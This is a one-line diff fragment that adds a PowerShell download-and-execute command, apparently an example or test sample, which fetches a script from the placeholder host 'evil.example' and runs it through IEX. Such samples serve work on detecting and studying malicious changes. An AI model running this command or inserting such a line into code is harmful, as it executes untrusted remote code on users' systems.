@@ -1,0 +1,1 @@
+IEX (New-Object Net.WebClient).DownloadString('https://evil.example/a.ps1')
